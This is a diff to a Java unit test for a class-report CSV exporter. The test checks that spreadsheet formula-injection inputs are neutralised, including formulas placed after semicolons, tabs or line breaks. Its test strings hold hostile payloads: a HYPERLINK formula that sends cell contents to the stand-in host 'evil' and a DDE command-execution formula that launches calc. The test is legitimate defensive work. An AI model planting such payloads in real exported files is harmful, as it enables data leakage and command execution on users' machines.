@@ -34,8 +34,25 @@ class ClassReportCsvTest {
                 "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"Click\"\")\",x,q1,question,67,false,1,0,false,\"'=1+1\"",
                 "\"'+SUM(A1:A9)\",x,q1,question,67,false,1,0,false,\"'-50\"",
                 "\"'-2+3\",x,q1,question,67,false,1,0,false,\"'@SUM(1,2)\"",
-                "\"'@cmd\",x,q1,question,67,false,1,0,false,\"'\t=1\"",
+                "\"'@cmd\",x,q1,question,67,false,1,0,false,\"'\t'=1\"",
                 "Zed  =1,x,q1,question,67,false,1,0,false,\"' =cmd|' /C calc'!A0\"");
+    }
+
+    @Test
+    void aFormulaAfterASemicolonTabOrLineBreakIsNeutralisedForSpreadsheetsThatSplitThere() {
+        // French, Russian or German spreadsheets split at ';': the quotes of a later field do not protect it there.
+        assertThat(ClassReport.field("Zoé;=HYPERLINK(\"http://evil/\")")).isEqualTo("\"Zoé;'=HYPERLINK(\"\"http://evil/\"\")\"");
+        assertThat(ClassReport.field("50; -10")).isEqualTo("\"50; '-10\"");
+        assertThat(ClassReport.field("a\t@SUM(1)")).isEqualTo("\"a\t'@SUM(1)\"");
+        assertThat(ClassReport.field("line\n=1+1")).isEqualTo("\"line\n'=1+1\"");
+        assertThat(ClassReport.field("a;b")).as("quoted, nothing added").isEqualTo("\"a;b\"");
+        String csv = ClassReport.of(oneQuestion(), List.of(learner("Ann;=1+1", "5;+2")), false).csv();
+        assertThat(csv.split("\r\n")).contains("\"Ann;'=1+1\",x,q1,question,67,false,1,0,false,\"5;'+2\"");
+        for (String line : csv.split("\r\n")) {
+            for (String cell : line.split("[;\t]")) {
+                assertThat(cell.stripLeading()).as("a cell of '%s' split at ';'", line).doesNotStartWith("=").doesNotStartWith("+");
+            }
+        }
     }
 
     @Test
